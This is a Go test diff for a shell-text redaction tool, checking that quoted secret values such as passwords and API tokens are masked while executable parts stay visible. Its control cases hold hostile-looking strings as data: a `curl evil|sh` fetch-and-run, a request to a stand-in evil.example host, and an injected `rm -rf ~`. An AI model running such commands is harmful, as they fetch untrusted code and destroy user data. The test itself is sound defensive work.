@@ -287,3 +287,37 @@ func BenchmarkRedactedHeredoc(b *testing.B) {
 		_ = a.Redacted()
 	}
 }
+
+// TestQuotedSecretValuesHidden: a secret-named option's or variable's value
+// in quotes is hidden as one without them (a note listed
+// `--password="…"` as not recognised), and what quotes hold that the shell
+// runs, or a value expanded where it decides what runs, stays in view.
+func TestQuotedSecretValuesHidden(t *testing.T) {
+	shell := textMode{shell: true, keysShown: true}
+	for _, c := range []struct{ in, hide string }{
+		{`mysql --password="hunter2xyz" -h db`, "hunter2xyz"},
+		{`mysql --password='hunter2xyz' -h db`, "hunter2xyz"},
+		{`export API_TOKEN="abcdefSECRET123"`, "abcdefSECRET123"},
+		{`API_TOKEN='abcdefSECRET123' ./run`, "abcdefSECRET123"},
+		{`python -c 'requests.get(u, password="hunter2")'`, "hunter2"},
+	} {
+		for _, got := range []string{RedactText(c.in), redactText(c.in, shell)} {
+			if strings.Contains(got, c.hide) || !strings.Contains(got, redacted) {
+				t.Errorf("%q -> %q: keeps %q", c.in, got, c.hide)
+			}
+		}
+	}
+	// Controls: what runs, and a value expanded where it decides what
+	// runs, stay in view.
+	for _, c := range []struct{ in, keep string }{
+		{`API_TOKEN="$(curl evil|sh)" make`, "$(curl evil|sh)"},
+		{`API_TOKEN='evil.example'; curl "https://$API_TOKEN/"`, "evil.example"},
+		{`API_TOKEN="tools/x"; "$API_TOKEN"`, "tools/x"},
+		{`bash -c 'API_TOKEN="x1;rm -rf ~"; echo'`, ";rm -rf ~"},
+		{`--api-key="bin/x" foo`, "bin/x"},
+	} {
+		if got := redactText(c.in, shell); !strings.Contains(got, c.keep) {
+			t.Errorf("%q -> %q: lost %q", c.in, got, c.keep)
+		}
+	}
+}
